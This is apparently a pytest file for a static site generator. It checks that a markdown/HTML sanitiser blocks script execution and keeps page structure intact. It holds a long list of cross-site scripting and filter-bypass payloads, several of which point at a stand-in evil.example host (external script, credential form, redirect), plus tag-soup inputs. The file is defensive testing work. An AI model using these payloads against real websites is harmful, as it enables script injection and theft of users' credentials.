"""Whatever HTML a text contains, no script runs and the page around it stays intact.

The published pages are parsed as a browser parses them.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any, Final
from xml.etree.ElementTree import Element

import html5lib
import pytest

from briefgen.read.markdown.elements import ALLOWED, ATTRIBUTES
from briefgen.read.markdown.sanitise import is_safe
from tests.conftest import BuildSite, MakeSite, Published

CODE: Final = "https://evil.example/x.js"
# Ways to run code, to contact another host, or to take over a page.
VECTORS: Final = [
    "<script>alert(1)</script>",
    f"<script src={CODE}></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)</script>",
    "<img src=https://a.example/x onerror=alert(1)>",
    "<img src='https://a.example/x' onerror='alert(1)' / >",
    '<img/src="https://a.example/x"/onerror="alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=x:alert(1) onload&#61;alert(1)>",
    "<img alt='`' onerror=alert(1) src=//a.example/`x`>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href=&#1;javascript:alert(1)>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='blob:x' ping=https://evil.example/>x</a>",
    "<a href='https://a.example/' onclick=alert(1) style='position:fixed'>x</a>",
    "<a href='https://a.example/\" onclick=\"alert(1)'>x</a>",
    "<a href=\"https://a.example/' onclick='alert(1)\">x</a>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<style><img title='</style><img src=x onerror=alert(1)>'></style>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext>x",
    "<listing><img title='</listing><img src=x onerror=alert(1)>'></listing>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<select><template><style><!--</style><a title='--><img src=x onerror=alert(1)>'></template>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://player.example/x srcdoc='<script>alert(1)</script>' onload=x></iframe>",
    "<iframe src=https://player.example/x><img src=x onerror=alert(1)></iframe>",
    "<iframe src=https://player.example/x>",
    "<iframe src=https://player.example@evil.example/></iframe>",
    "<iframe src='https://evil.example\\@player.example/'></iframe>",
    "<iframe src='https:/\\player.example/'></iframe>",
    "<object data=javascript:alert(1)></object>",
    f"<object data={CODE}><embed src={CODE}></object>",
    "<embed src=javascript:alert(1)>",
    f"<applet code={CODE}></applet>",
    f"<frameset onload=alert(1)><frame src={CODE}></frameset>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)><head><base href=https://evil.example/></head>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<link rel=stylesheet href={CODE}><link rel=import href={CODE}>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<div style='background:url(javascript:alert(1));position:fixed;inset:0'>x</div>",
    "<form action=https://evil.example/><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=checkbox onfocus=alert(1) autofocus formaction=javascript:x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video src=javascript:alert(1) poster=javascript:alert(1) onerror=alert(1)></video>",
    "<video><source onerror=alert(1) src='data:text/html,x'></video>",
    "<audio src=https://a.example/x onloadstart=alert(1) autoplay></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<p contenteditable onfocus=alert(1) tabindex=0 autofocus>x</p>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<x onclick=alert(1) id=x tabindex=0>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<b/onclick=alert(1)//>x</b>",
    "<b \x0conclick=alert(1)>x</b>",
    "<b onclick\n=\nalert(1)>x</b>",
    "<b x='<b onclick=alert(1)>'>x</b>",
    "<!--><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!-- <img title='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<![x]><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=https://a.example/ onerror=alert(1)>",
    "<?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "</ onclick=alert(1)><script>alert(1)</script>",
    "</p onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script>alert(1)&#60;/script>",
    "\\<script>alert(1)\\</script>",
    "<a href=https://a.example/ class=source-link data-source=99 id=source-1>x</a>",
    "<div data-pagefind-ignore data-url=javascript:x is=x-y slot=x part=x>x</div>",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](https://a.example/ '\"><script>alert(1)</script>')",
    '[x](https://a.example/ "\\" onclick=\\"alert(1)")',
    '[x](https://a.example/"onclick=alert(1))',
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://a.example/x.png "\\"><script>alert(1)</script>")',
    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick="alert(1)>',
    "<https://a.example/<script>alert(1)</script>>",
    'https://a.example/"><script>alert(1)</script>',
    "`<script>alert(1)</script>`",
    "[x](https://a.example){onclick=alert(1) style=x .a}",
    "{onclick=alert(1)}",
    '{#"><script>alert(1)</script>}',
]
# Ways to break out of the element around the text.
TAG_SOUP: Final = [
    "<table><tr><td><table><tr><td>x</td></tr></table></td></tr></table>",
    "</div>" * 9,
    "</article></main></body></html>",
    "</section></aside></li></ul></p></h2></a>",
    "<div>" * 9,
    "<table>",
    "<table><tr><td>",
    "<ul><li>",
    "<li>x<li>y",
    "<dl><dt>x",
    "<dd>x",
    "<p>",
    "<p><p>",
    "</p>",
    "<h2>",
    "<h1>x</h2>",
    "<h3><div>x</div></h3>",
    "<b><i>x</b>y</i>",
    "<a href=https://a.example/>",
    "<a href=https://a.example/><a href=https://b.example/>x",
    "<a href=https://a.example/><div>x</div></a>",
    "<b><p>x</b>y</p>",
    "<blockquote>",
    "<details>",
    "<details><summary>",
    "<summary>x",
    "<pre>",
    "<code>",
    "<td>x</td>",
    "<tr><td>x",
    "<caption>x",
    "<tbody>",
    "<col>",
    "<colgroup><col>x",
    "<table>x<p>y",
    "<table><caption><table>",
    "<ruby><rt>",
    "<option>x",
    "<optgroup>",
    "<button>x",
    "<form>",
    "<fieldset><legend>x",
    "<label>x",
    "<select><option>x",
    "<textarea>x",
    "<main>x",
    "<header>",
    "<nav>",
    "<figure><figcaption>",
    "<figcaption>x",
    "<video>",
    "<audio><p>x",
    "<picture>",
    "<picture><p>x",
    "<iframe>",
    "<br></br>",
    "<hr>",
    "<center>",
    "<font><font><font><font><p>",
    "<nobr><nobr>",
    "<b><b><b><b><b></b><p>x",
    "<!--",
    '<p title="',
    "<p title='>",
    "<style>",
    "<script>",
    "<title>",
    "<svg>",
    "<math>",
    "<svg><p>",
    "<plaintext>",
    "<frameset>",
    "<body class=x>",
    "<head>",
    "<html lang=xx>",
    "<image>",
    "<img src=https://a.example/x.png alt=x><img",
    "<input type=checkbox>",
    "<span><div>x</span>y",
    "<div><span></div></span>",
    "<p><table><p>x",
    "<em><table><em>x",
    "<object><p>",
    "<address><li>",
    "<template>",
    "<noscript>",
    "<foo><bar>",
    "<rt>x",
    "<th>x",
    "<tfoot>",
    "<sup><h2>x",
    "<q><ul><li>",
]
# In CommonMark these extend to the end of the text.
ENDLESS: Final = frozenset(
    {
        "<script>alert(1)", "<ScRiPt\n>alert(1)</sCrIpT\t>", "<script>", "<style>", "<pre>",
        "<textarea>x", "<!--",
    }
)  # fmt: skip
# Positions of a text; most have neighbours that must stay where they are.
PLACES: Final = [
    "{}",
    "before {} after",
    "> {}",
    "> - {}",
    "- {}\n- y",
    "1. a\n\n   {}\n\n2. b",
    "## A {} b",
    "| a | b |\n| - | - |\n| {} | c |",
    "**{}**",
    "*a {} b*",
    "[{}](https://b.example/)",
    "![{}](https://b.example/p.png)",
    '[a](https://b.example/ "{}")',
    "[a][r]\n\n[r]: https://b.example/ '{}'",
    "a[^1]\n\n[^1]: {}",
    "a^[{}]",
    "Term {}\n: meaning {}",
    "::: note {}\ntext\n:::",
    "::: warning\n{}\n:::",
    "- [ ] task {}\n- [x] done",
    "{{#own}}\n{}",
    "{{.pull}}\n> {}",
    '![a](https://b.example/p.png "{}")',
    "<div>\n{}\n</div>",
    "<p>{}</p>",
    "<table><tr><td>\n\n{}\n\n</td></tr></table>",
    "<details><summary>{}</summary>\n\n{}\n\n</details>",
]
END: Final = "\n\n## The end\n\nThe [last](https://last.example/) words.\n"
SETTINGS: Final[dict[str, Any]] = {"markdown": {"frames": ["player.example"]}}
# Parts that depend on the text and may differ from page to page.
TEXTS: Final = frozenset({"brief-body", "highlights", "sources", "toc", "related", "neighbours"})


def findable(text: str) -> str:
    """Return a text whose images are external, since missing files would be errors."""
    return re.sub(r"\bsrc=[x1](?=[ >])", "src=https://a.example/x", text)


def quoted(text: str) -> str:
    return "'" + text.replace("\n", " ").replace("'", "''") + "'"


def files(texts: list[str]) -> dict[str, str]:
    """Return a brief for each text, with the text in every position."""
    briefs = {}
    for number, text in enumerate(map(findable, texts)):
        line = "".join(each for each in text.replace("\n", " ") if each.isprintable())
        body = "\n\n".join(
            place.replace("{{", "{")
            .replace("}}", "}")
            .replace("{}", line if "|" in place else text)
            for place in PLACES
        )
        briefs[f"content/briefs/b{number}.md"] = (
            f"---\ntitle: {quoted(line)}\nsummary: {quoted('Of ' + line)}\nauthors: [ann]\n"
            f"highlights:\n  - {quoted(line)}\n  - last\ncategories: [C]\n---\n"
            f"## First\n\n{body}{END}"
        )
    return briefs


@pytest.fixture(scope="module")
def authors() -> dict[str, str]:
    bio = "\n\n".join(map(findable, [*VECTORS, *TAG_SOUP]))
    return {"content/authors/ann.md": f"---\nname: Ann\n---\n{bio}{END}"}


def tree_of(published: Published, path: str) -> Element:
    parser = html5lib.HTMLParser(namespaceHTMLElements=False)
    tree: Element = parser.parse(published.read(path), transport_encoding="utf-8")
    return tree


def by_class(tree: Element, name: str) -> list[Element]:
    return [each for each in tree.iter() if name in str(each.get("class", "")).split()]


def skeleton(element: Element) -> Iterator[str]:
    """Yield the elements of a page, without the elements of its texts."""
    classes = str(element.get("class", "")).split()
    if TEXTS.isdisjoint(classes) and element.tag not in ("head", "svg", "dd", "h1"):
        yield f"<{element.tag} class={' '.join(classes)}>"
        for child in element:
            yield from skeleton(child)
        yield f"</{element.tag}>"


def check_harmless(element: Element) -> None:
    """Check that an element contains only what a text may contain."""
    for each in list(element.iter())[1:]:
        assert isinstance(each.tag, str)
        assert each.tag in ALLOWED | {"label"}, each.tag
        for name, value in each.attrib.items():
            assert name in ATTRIBUTES.get(each.tag, ()), f"<{each.tag} {name}>"
            if name in ("href", "src", "poster", "cite"):
                assert is_safe(value, image=each.tag == "img"), value
        if each.tag == "iframe":
            assert str(each.get("src")).startswith("https://player.example/")


def check_page(published: Published, path: str, reference: list[str], *, is_endless: bool) -> None:
    tree = tree_of(published, path)
    assert list(skeleton(tree)) == reference
    (body,) = by_class(tree, "brief-body")
    (box,) = by_class(tree, "highlights")
    highlights = list(box.iter("li"))
    for place in (body, *highlights):
        check_harmless(place)
    assert [words_of(each) for each in highlights][1:] == ["last"]
    ends = [each for each in body.iter("p") if words_of(each).startswith("The last")]
    assert len(ends) == (0 if is_endless else 1)


def words_of(element: Element) -> str:
    return "".join(element.itertext())


@pytest.mark.parametrize("texts", [VECTORS, TAG_SOUP], ids=["code", "tags"])
def test_no_text_can_run_code_or_break_the_page_around_it(
    make_quick_site: MakeSite, build_site: BuildSite, texts: list[str], authors: dict[str, str]
) -> None:
    root = make_quick_site({**authors, **files(["plain", *texts])}, **SETTINGS)
    published = build_site(root)
    errors = [each for each in published.diagnostics if each.is_error]
    assert {each.message for each in errors} == set()
    reference = list(skeleton(tree_of(published, "/briefs/b0/")))
    failures = {}
    for number, text in enumerate(texts, 1):
        try:
            path = f"/briefs/b{number}/"
            check_page(published, path, reference, is_endless=text in ENDLESS)
        except AssertionError as problem:
            failures[text] = str(problem)
    assert failures == {}
